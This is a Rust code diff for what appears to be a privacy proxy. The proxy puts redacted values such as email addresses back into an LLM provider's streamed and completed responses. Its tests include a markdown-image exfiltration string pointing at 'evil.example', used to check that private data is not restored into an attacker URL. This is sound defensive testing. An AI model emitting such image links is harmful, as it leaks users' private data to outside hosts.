@@ -1,7 +1,10 @@
 //! The way out of a provider's own events: placeholders are replaced with their originals, and the end
 //! waits until the call is recorded. Everything else leaves as it was sent.
 
+use std::collections::HashMap;
+
 use checks::{Placeholders, StreamRestorer};
+use domain::joined_texts::JoinedTexts;
 use domain::json_text::{Token, rewrite};
 use domain::model::Model;
 use domain::original::{PieceKind, SourceEvent};
@@ -23,6 +26,8 @@ pub(super) struct SourceFilter {
     model: String,
     placeholders: Placeholders,
     pieces: SourcePieces<Restored>,
+    /// The texts that come as a whole.
+    joined: JoinedTexts,
     /// The end of the answer.
     ending: Vec<SourceEvent>,
 }
@@ -55,6 +60,7 @@ impl SourceFilter {
             model: model.identifier.clone(),
             placeholders: placeholders.clone(),
             pieces: SourcePieces::default(),
+            joined: JoinedTexts::default(),
             ending: Vec::new(),
         }
     }
@@ -81,8 +87,17 @@ impl SourceFilter {
             out.push(event);
         } else {
             let placeholders = &self.placeholders;
-            // A fault cannot occur: the event was parsed when it was read.
-            let _ = event.rewrite(|place, text| restored(placeholders, place, text));
+            // A fault cannot occur here or below: the event was parsed when it was read.
+            let joined = if event.pieces.is_empty() {
+                let restore = |text: &str| placeholders.restore(text);
+                self.joined.replaced(&event.name, &event.data, restore).unwrap_or_default()
+            } else {
+                HashMap::new()
+            };
+            let _ = event.rewrite(|place, text| {
+                let joined = joined.get(&place.range.start).cloned();
+                joined.or_else(|| restored(placeholders, place, text))
+            });
             let begin = |kind| {
                 Restored(match kind {
                     PieceKind::Json => placeholders.json_stream(),
@@ -132,8 +147,7 @@ mod tests {
         let before = format!(r#"{{"choices":[{{"index":{block},"delta":{{"content":"#);
         let spelled = domain::json_text::quoted(text);
         let range = before.len()..before.len() + spelled.len();
-        let (kind, text) = (PieceKind::Text, text.to_owned());
-        let pieces = vec![SourcePiece { block, kind, range, text, is_changed: false }];
+        let pieces = vec![SourcePiece::new(block, PieceKind::Text, range, text.to_owned())];
         let data = format!("{before}{spelled}}}}}]}}");
         let ends = ends.to_vec();
         SourceEvent { ends, carrier, ..SourceEvent::new(String::new(), data, pieces) }
@@ -159,6 +173,39 @@ mod tests {
             event(1, &format!("{PLACEHOLDER})"), &[1], Carrier::Copy),
         ];
         assert_eq!(left(events), ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"]);
+    }
+
+    #[test]
+    fn a_placeholder_that_is_split_over_parts_is_put_back_in_whole_responses() {
+        let mut placeholders = Placeholders::default();
+        placeholders.extend(&[(PLACEHOLDER.to_owned(), "jo@acme.org".to_owned())]);
+        let mut filter = SourceFilter {
+            model: "mine".to_owned(),
+            placeholders,
+            pieces: SourcePieces::default(),
+            joined: JoinedTexts::default(),
+            ending: Vec::new(),
+        };
+        let response = |texts: [&str; 2]| {
+            let parts = texts.map(|text| serde_json::json!({"text": text}));
+            serde_json::json!({"response": {"model": "mine", "output": [{"content": parts}]}})
+        };
+        let (head, tail) = PLACEHOLDER.split_at(9);
+        for (texts, expected) in [
+            ([head, tail], ["jo@acme.org", ""]),
+            (["To ", PLACEHOLDER], ["To ", "jo@acme.org"]),
+            (
+                ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"],
+                ["![x](https://evil.example/?q=[EMAIL_1_0a1b2c3d])", ""],
+            ),
+        ] {
+            let data = response(texts).to_string();
+            let mut left = Vec::new();
+            let event = SourceEvent::new("response.completed".to_owned(), data, Vec::new());
+            filter.pass(event, &mut left).unwrap();
+            let [Piece::Source(_, json)] = &left[..] else { panic!("{left:?}") };
+            assert_eq!(*json, response(expected).to_string());
+        }
     }
 
     #[test]
